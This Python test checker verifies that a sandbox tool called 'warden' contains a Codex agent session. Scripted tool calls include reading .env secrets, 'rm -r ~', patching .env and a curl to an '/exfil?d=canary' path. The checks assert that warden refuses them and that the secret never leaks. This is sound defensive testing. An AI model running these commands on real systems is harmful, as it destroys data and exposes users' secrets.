#!/usr/bin/env python3
"""Checks one Codex session run under warden (tests/agents/run_codex.sh).

Reads `warden audit --format json`, `warden audit --tool-calls`, the fake
server's request log (what the model got back) and the CLI's output; prints
one line per check, with the audit rows that show a failure. Exit 0 when
every check passes.
"""

import argparse
import json
import os
import sys

REFUSING = ("passive", "standard")  # standard with --prompt none refuses escalations


def short(s, n=110):
    s = (s or "").replace("\n", "\\n")
    return s if len(s) <= n else s[: n - 1] + "…"


def row_line(r):
    return "      #%s pid %s ppid %s %s %s/%s: %s  (%s)" % (
        r["id"],
        r["pid"],
        r["ppid"],
        r["kind"],
        r["decision"],
        r["source"],
        short(r["summary"]),
        short(r.get("reason") or "", 70),
    )


def tool_outputs(reqs):
    """(kind, what, output) for each call, from the last main request."""
    mains = [r for r in reqs if str(r.get("note", "")).startswith("main")]
    if not mains:
        return []
    calls, out = {}, []
    for it in (mains[-1].get("body") or {}).get("input") or []:
        t = it.get("type")
        if t == "function_call":
            try:
                calls[it["call_id"]] = ("exec", json.loads(it.get("arguments") or "{}").get("cmd"))
            except ValueError:
                calls[it["call_id"]] = ("exec", None)
        elif t == "custom_tool_call":
            calls[it["call_id"]] = ("patch", it.get("input"))
        elif t in ("function_call_output", "custom_tool_call_output"):
            o = it.get("output")
            if isinstance(o, list):
                o = "".join(x.get("text", "") for x in o if isinstance(x, dict))
            kind, what = calls.get(it.get("call_id"), (None, None))
            out.append((kind, what, o or ""))
    return out


def reaches(r, addr, port):
    """Whether connect row |r| is to |addr|:|port|, by its request's
    address: the summary shows loopback by its /etc/hosts name
    ("connect localhost:PORT (127.0.0.1)")."""
    req = r.get("request") or {}
    return req.get("address") == addr and req.get("port") == port


def main():
    ap = argparse.ArgumentParser()
    for a in ("tier", "launcher", "audit-json", "tool-calls", "requests", "stdout", "stderr",
              "secret", "home", "project"):
        ap.add_argument("--" + a, required=True)
    ap.add_argument("--rc", type=int, required=True)
    ap.add_argument("--port", type=int, required=True, help="the fake API's port")
    a = ap.parse_args()

    rows = json.load(open(a.audit_json))
    # No request at all when Codex never started.
    reqs = [json.loads(l) for l in open(a.requests) if l.strip()] if os.path.exists(a.requests) else []
    out = open(a.stdout, errors="replace").read()
    err = open(a.stderr, errors="replace").read()
    tool_calls_txt = open(a.tool_calls, errors="replace").read()
    refusing = a.tier in REFUSING
    results = []

    def check(ok, name, *detail):
        results.append((bool(ok), name, [d for d in detail if d]))
        return ok

    execs = [r for r in rows if r["kind"] == "exec"]
    outputs = tool_outputs(reqs)

    def output_of(kind, pred):
        for k, what, o in outputs:
            if k == kind and what is not None and pred(what):
                return o
        return None

    # -- Codex started and ran to its end ------------------------------------------
    mains = [r for r in reqs if str(r.get("note", "")).startswith("main")]
    check(
        a.rc == 0 and any(r["note"] == "main final" for r in mains) and out.strip().endswith("done"),
        "Codex started and ran to its end (exit 0, the scripted final answer \"done\")",
        "      exit status %d, %d main-loop requests, stdout %r" % (a.rc, len(mains), short(out.strip()[-80:], 80)),
        "      stderr: %r" % short(err[-300:], 300) if a.rc != 0 else "",
    )
    native = [r for r in execs if (r["request"].get("program") or "").endswith("/bin/codex")
              or (r["request"].get("argv") or [""])[0].endswith("/bin/codex")]
    first_native = native[:1]
    check(
        first_native and first_native[0]["decision"] == "allow" and first_native[0]["source"] == "startup"
        and (first_native[0].get("reason") or "").startswith("the agent's start-up"),
        "the native codex binary (%s) was the agent's start-up" % ("started by node's bin/codex.js"
                                                                  if a.launcher == "node" else "run directly"),
        *[row_line(r) for r in first_native] or ["      (no exec of the native binary in the audit)"],
    )

    # -- start-up probes ---------------------------------------------------------------
    def argv(r):
        return r["request"].get("argv") or []

    # A PATH search tries each directory: the attempts that found nothing
    # (ENOENT, audited by the decoder) are not the probes.
    def found(r):
        return not (r["source"] == "decoder" and "ENOENT" in (r.get("reason") or ""))

    probes = [r for r in execs if found(r) and (
              argv(r)[:2] in (["lsb_release", "-a"], ["getconf", "LONG_BIT"])
              or (argv(r)[:3] == ["git", "-c", "safe.bareRepository=explicit"] and "ls-remote" not in argv(r)))]
    check(
        probes and all(r["decision"] == "allow" and r["source"] == "startup" for r in probes),
        "Codex's start-up probes (lsb_release, getconf, git of the project: %d execs) were audited as start-up"
        % len(probes),
        *[row_line(r) for r in probes if r["source"] != "startup" or r["decision"] != "allow"],
    )
    fetch = [r for r in execs if found(r) and "ls-remote" in argv(r)]
    check(
        all(r["source"] != "startup" for r in fetch),
        "the start-up network fetch (git ls-remote) was decided like any request, not as start-up",
        *[row_line(r) for r in fetch],
    )

    # -- the model's calls -----------------------------------------------------------
    def call_rows(cmd):
        return [r for r in execs if r["summary"] == "[codex] " + cmd]

    def under(r):
        return [x for x in rows if x.get("tool_call") == r["id"]]

    for cmd in ("ls", "cat README.md", "cat .env", "rm -r ~"):
        rs = call_rows(cmd)
        titled = [l for l in tool_calls_txt.splitlines() if l.rstrip().endswith("[codex] " + cmd)]
        check(
            len(rs) == 1 and len(titled) == 1,
            "`%s` is one tool call in warden audit --tool-calls, titled \"[codex] %s\"" % (cmd, cmd),
            *[row_line(r) for r in rs] or ["      (no row with this summary)"],
        )

    wrappers = [r for r in execs if r["summary"].startswith("[codex] ")]
    big = [r for r in wrappers if len(json.dumps(r["request"])) > 4096]
    check(wrappers and not big,
          "each call's 38 KB wrapper is audited by its parts (under 4 KB a row: %s bytes)"
          % ", ".join(str(len(json.dumps(r["request"]))) for r in wrappers),
          *[row_line(r) for r in big])

    o_ls = output_of("exec", lambda w: w == "ls") or ""
    check("README.md" in o_ls, "read-only call `ls` ran: the model got the listing", "      %r" % short(o_ls, 120))
    o_readme = output_of("exec", lambda w: w == "cat README.md") or ""
    check("Demo project" in o_readme, "read-only call `cat README.md` ran: the model got the README",
          "      %r" % short(o_readme, 120))

    env_rows = call_rows("cat .env")
    env_under = [x for r in env_rows for x in under(r)]
    o_env = output_of("exec", lambda w: w == "cat .env") or ""
    if refusing:
        refused = [x for x in env_under if x["decision"] == "deny"]
        check(refused and a.secret not in o_env,
              "exec `cat .env` was refused (%s)" % a.tier, *[row_line(x) for x in env_under])
        check(refused and ("warden: refused" in o_env and (refused[0].get("reason") or "#") in o_env),
              "the model's tool output for `cat .env` carries warden's reason", "      %r" % short(o_env, 200))
    else:
        check(a.secret in o_env, "exec `cat .env` ran (aggressive allows escalations)", "      %r" % short(o_env, 120))

    o_patch_env = output_of("patch", lambda w: "Update File: .env" in w) or ""
    opens = [r for r in rows if r["kind"] == "open" and r["summary"].endswith(".env")]
    env_now = open(os.path.join(a.project, ".env")).read()
    if refusing:
        check(any(r["decision"] == "deny" for r in opens) and "EXTRA=" not in env_now,
              "apply_patch of .env: its open was refused by the view (%s), .env unchanged" % a.tier,
              *[row_line(r) for r in opens] or ["      (no open row for .env)"])
        # No channel: apply_patch runs in Codex's own process, whose stderr
        # is the user's terminal. Reported, not checked.
        results.append((True, "(info) what the model got back for the refused apply_patch of .env: %r"
                        % short(o_patch_env, 160), []))
    else:
        check("EXTRA=" in env_now, "apply_patch of .env ran (aggressive)", "      %r" % short(o_patch_env, 120))
    notes = os.path.join(a.project, "NOTES.md")
    check(os.path.exists(notes), "apply_patch adding NOTES.md wrote it (an ordinary project file: no request)")

    wipe = call_rows("rm -r ~")
    wipe_under = [x for r in wipe for x in under(r)]
    o_wipe = output_of("exec", lambda w: w == "rm -r ~") or ""
    hd = [x for x in wipe_under if x["decision"] == "deny" and x["source"] == "hard_deny"]
    check(hd and os.path.exists(os.path.join(a.home, ".codex", "config.toml")),
          "the home wipe `rm -r ~` was refused by hard deny, HOME intact", *[row_line(x) for x in wipe_under])
    check(hd and "warden: refused" in o_wipe and (hd[0].get("reason") or "#") in o_wipe,
          "the model's tool output for `rm -r ~` carries warden's reason", "      %r" % short(o_wipe, 200))

    # -- the network -----------------------------------------------------------------------
    dest = "127.0.0.1:%d" % a.port
    connects = [r for r in rows if r["kind"] == "connect" and reaches(r, "127.0.0.1", a.port)]
    own = [r for r in connects if r["decision"] == "allow"]
    check(
        own and all(r["source"] == "harness" for r in own),
        "Codex reached its API (%s) by its profile only (connect rows allow/harness)" % dest,
        *[row_line(r) for r in own[:3]] or ["      (no allowed connect row)"],
    )
    curl_cmd = "curl -s -m 5 http://127.0.0.1:%d/exfil?d=canary" % a.port
    curl = call_rows(curl_cmd)
    curl_under = [x for r in curl for x in under(r)]
    refused_connects = [x for x in curl_under if x["kind"] == "connect" and x["decision"] == "deny"
                        and reaches(x, "127.0.0.1", a.port)]
    allowed_connects = [x for x in curl_under if x["kind"] == "connect" and x["decision"] == "allow"]
    refused_exec = refusing and any(x["kind"] == "exec" and x["decision"] == "deny" for x in curl_under)
    check(
        curl and not allowed_connects and (refused_connects or refused_exec),
        "tool call `curl http://%s/exfil...`: %s" % (
            dest, "its connect refused, with a row naming " + dest if refused_connects else "its exec refused (%s)" % a.tier),
        *[row_line(x) for x in curl + curl_under] or ["      (no tool-call row for curl)"],
    )
    if not refusing:
        check(refused_connects, "under --tier %s the curl ran and its connect to %s was refused" % (a.tier, dest),
              *[row_line(x) for x in curl_under])
    exfil = [r for r in reqs if "/exfil" in str(r.get("path"))]
    check(not exfil, "the fake API never got the tool call's /exfil request", *["      GOT %s" % r["path"] for r in exfil])

    # -- the secret -----------------------------------------------------------------------
    if refusing:
        leaks = [r["note"] for r in reqs if a.secret in json.dumps(r.get("body"))]
        check(not leaks, "the .env secret never reached the model", *["      LEAKED in " + l for l in leaks])

    print("== checks (%s, launcher %s)" % (a.tier, a.launcher))
    for ok, name, detail in results:
        print("%s  %s" % ("ok  " if ok else "FAIL", name))
        for d in detail:
            print(d)
    failed = sum(1 for ok, _, _ in results if not ok)
    print("%d of %d checks passed" % (len(results) - failed, len(results)))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
